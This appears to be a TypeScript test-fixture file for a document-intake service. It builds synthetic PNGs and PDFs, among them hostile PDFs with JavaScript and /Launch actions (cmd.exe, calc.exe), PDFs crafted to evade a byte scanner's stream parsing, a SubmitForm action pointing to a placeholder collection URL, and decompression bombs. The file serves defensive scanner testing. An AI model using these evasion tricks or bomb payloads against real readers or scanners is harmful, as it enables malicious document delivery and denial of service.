/** Small synthetic files for intake tests: PNGs written by hand, hostile PDFs, and real fax paths. */
import { crc32, createDeflate, deflateRawSync, deflateSync } from 'node:zlib';

function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}

/** An 8-bit grey PNG; `paint(x, y)` gives each pixel's grey value. */
export function greyPng(width: number, height: number, paint: (x: number, y: number) => number = () => 255, dpi = 200): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc((width + 1) * height);
  for (let y = 0; y < height; y++) {
    raw[y * (width + 1)] = 0;
    for (let x = 0; x < width; x++) raw[y * (width + 1) + 1 + x] = paint(x, y);
  }
  const phys = Buffer.alloc(9);
  const ppm = Math.round(dpi / 0.0254);
  phys.writeUInt32BE(ppm, 0);
  phys.writeUInt32BE(ppm, 4);
  phys[8] = 1;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('pHYs', phys),
    chunk('IDAT', deflateSync(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A PDF written by hand with a correct xref table. */
export function handmadePdf(objects: string[], trailerExtra = ''): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra} >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'];

export const hostilePdfs = {
  javascript: () => handmadePdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGES, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>']),
  launch: () => handmadePdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGES, '<< /S /Launch /F (cmd.exe) >>']),
  embeddedFile: () =>
    handmadePdf([
      '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(doe_jane.txt) 4 0 R] >> >> >>',
      ...PAGES,
      '<< /Type /Filespec /F (doe_jane.txt) /EF << /F 5 0 R >> >>',
      '<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream',
    ]),
  encrypted: () =>
    handmadePdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES, '<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'], '/Encrypt 4 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]'),
};

/**
 * A PDF whose object 4 lives compressed in object stream 5, found through a cross-reference
 * stream (object 6). `streamKeyword` is what follows the stream dictionary ("stream\n" is the
 * usual form; pdf.js accepts anything up to the end of the line), `typed` writes /Type /ObjStm
 * (pdf.js does not need it), `dataPrefix` goes before the compressed bytes inside the stream.
 */
export function objectStreamPdf(
  inner: string,
  opts: { catalogExtra?: string; pageExtra?: string; streamKeyword?: string; typed?: boolean; endstreamInData?: boolean } = {},
): Buffer {
  // With `endstreamInData`, a stored (uncompressed) deflate block comes first and holds the word
  // "endstream": a scanner that ends the stream at the first "endstream" misses the rest.
  const header = opts.endstreamInData ? '4 0 endstream ' : '4 0 ';
  const decoded = Buffer.from(header + inner, 'latin1');
  let data: Buffer;
  if (opts.endstreamInData) {
    const lead = Buffer.from(header, 'latin1');
    const stored = Buffer.concat([Buffer.from([0x00, lead.length & 0xff, lead.length >> 8, ~lead.length & 0xff, (~lead.length >> 8) & 0xff]), lead]);
    let a = 1;
    let b = 0;
    for (const byte of decoded) {
      a = (a + byte) % 65521;
      b = (b + a) % 65521;
    }
    const adler = Buffer.alloc(4);
    adler.writeUInt32BE(((b << 16) | a) >>> 0);
    data = Buffer.concat([Buffer.from([0x78, 0x01]), stored, deflateRawSync(Buffer.from(inner, 'latin1')), adler]);
  } else {
    data = deflateSync(decoded);
  }
  const first = header.length;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${opts.catalogExtra ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${opts.pageExtra ?? ''} >>`,
  ];
  let body = Buffer.from('%PDF-1.7\n', 'latin1');
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(body.length);
    body = Buffer.concat([body, Buffer.from(`${i + 1} 0 obj\n${o}\nendobj\n`, 'latin1')]);
  });
  const objStmAt = body.length;
  const type = opts.typed === false ? '' : '/Type /ObjStm ';
  body = Buffer.concat([
    body,
    Buffer.from(`5 0 obj\n<< ${type}/N 1 /First ${first} /Filter /FlateDecode /Length ${data.length} >>\n${opts.streamKeyword ?? 'stream\n'}`, 'latin1'),
    data,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
  ]);
  const xrefAt = body.length;
  const row = (type: number, a: number, b: number) => {
    const r = Buffer.alloc(7);
    r[0] = type;
    r.writeUInt32BE(a, 1);
    r.writeUInt16BE(b, 5);
    return r;
  };
  const rows = Buffer.concat([row(0, 0, 65535), ...offsets.map((o) => row(1, o, 0)), row(2, 5, 0), row(1, objStmAt, 0), row(1, xrefAt, 0)]);
  return Buffer.concat([
    body,
    Buffer.from(`6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length ${rows.length} >>\nstream\n`, 'latin1'),
    rows,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'),
  ]);
}

/**
 * PDFs shaped to slip past a byte scanner while pdf.js still reads them. Found by the security
 * review: the reader's scan skipped from any "stream" + line break to the next "endstream", so
 * the same words inside strings hid what lay between, and an object stream whose "stream"
 * keyword had a space before the line break was never decompressed.
 */
export const evasivePdfs = {
  launchBehindStrings: () =>
    handmadePdf(['<< /Type /Catalog /Pages 2 0 R /Lang (stream\n) /OpenAction << /S /Launch /F (calc.exe) >> /PageMode (endstream) >>', ...PAGES]),
  launchAnnotationBehindStrings: () =>
    handmadePdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>',
      '<< /Type /Annot /Subtype /Link /Contents (stream\n) /Rect [0 0 612 792] /A << /S /Launch /F (calc.exe) >> /NM (endstream) >>',
    ]),
  launchInObjectStreamWithSpace: () => objectStreamPdf('<< /S /Launch /F (calc.exe) >>', { catalogExtra: '/OpenAction 4 0 R', streamKeyword: 'stream \r\n' }),
  launchInUntypedObjectStream: () => objectStreamPdf('<< /S /Launch /F (calc.exe) >>', { catalogExtra: '/OpenAction 4 0 R', typed: false }),
  launchAfterEndstreamInObjectStream: () => objectStreamPdf('<< /S /Launch /F (calc.exe) >>', { catalogExtra: '/OpenAction 4 0 R', endstreamInData: true }),
  submitFormInObjectStreamBehindStrings: () =>
    objectStreamPdf('<< /S /SubmitForm /F (https://example.invalid/collect) >>', { catalogExtra: '/OpenAction 4 0 R /Lang (stream\n)', pageExtra: '/Lang (endstream)' }),
};

/**
 * A letter page that draws one image of `width` x `height` black pixels: a few hundred kilobytes
 * that decode to width x height x 3 bytes (and four bytes a pixel more on the canvas).
 */
export function hugeImagePdf(width: number, height: number): Buffer {
  const rows: Buffer[] = [];
  const row = Buffer.alloc(width * 3, 0);
  for (let y = 0; y < height; y++) rows.push(row);
  const image = deflateSync(Buffer.concat(rows), { level: 9 });
  const content = 'q 612 0 0 792 0 0 cm /Im0 Do Q';
  const objects: (string | Buffer)[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>',
    Buffer.concat([
      Buffer.from(`<< /Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode /Length ${image.length} >>\nstream\n`, 'latin1'),
      image,
      Buffer.from('\nendstream', 'latin1'),
    ]),
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
  ];
  let out = Buffer.from('%PDF-1.7\n', 'latin1');
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(out.length);
    out = Buffer.concat([out, Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), Buffer.isBuffer(o) ? o : Buffer.from(o, 'latin1'), Buffer.from('\nendobj\n', 'latin1')]);
  });
  const xref = out.length;
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  return Buffer.concat([out, Buffer.from(`${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`, 'latin1')]);
}

/** A PNG header claiming `width` x `height` with a tiny (invalid) body: a decompression bomb's face. */
export function pngClaiming(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 0;
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(1024))), chunk('IEND', Buffer.alloc(0))]);
}

/** A one-page PDF whose content stream is `mb` megabytes of spaces, compressed to about 1/1000. */
export async function contentBombPdf(mb: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  const block = Buffer.alloc(1024 * 1024, 0x20);
  for (let i = 0; i < mb; i++) if (!deflate.write(block)) await new Promise((resolve) => deflate.once('drain', resolve));
  deflate.end(Buffer.from(' 0 0 m 10 10 l S\n', 'latin1'));
  await ended;
  const data = Buffer.concat(parts);
  return handmadePdfWithStream(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>'], `<< /Filter /FlateDecode /Length ${data.length} >>`, data);
}

function handmadePdfWithStream(objects: string[], streamDict: string, data: Buffer): Buffer {
  let out = Buffer.from('%PDF-1.7\n', 'latin1');
  const offsets: number[] = [];
  const parts: Buffer[] = [...objects.map((o) => Buffer.from(o, 'latin1')), Buffer.concat([Buffer.from(`${streamDict}\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')])];
  parts.forEach((o, i) => {
    offsets.push(out.length);
    out = Buffer.concat([out, Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), o, Buffer.from('\nendobj\n', 'latin1')]);
  });
  const xref = out.length;
  const table = `xref\n0 ${parts.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  return Buffer.concat([out, Buffer.from(`${table}trailer\n<< /Size ${parts.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`, 'latin1')]);
}

export const REALDATA = '/work/shared/realdata';
export const ONTARIO_FINE_G3 = `${REALDATA}/ontario-labreq-2010/labReqForm2010_fax_fine_g3.tif`;
export const ONTARIO_STANDARD_G3 = `${REALDATA}/ontario-labreq-2010/labReqForm2010_fax_standard_g3.tif`;
export const ONTARIO_BLANK_PDF = `${REALDATA}/ontario-labreq-2010/labReqForm2010.pdf`;
export const ONTARIO_MAP = `${REALDATA}/ontario-labreq-2010/labReqPrintEncounterForm2010.txt`;
export const ITU_G4 = `${REALDATA}/itu-fax-test-charts/itu1-8_g4.tif`;
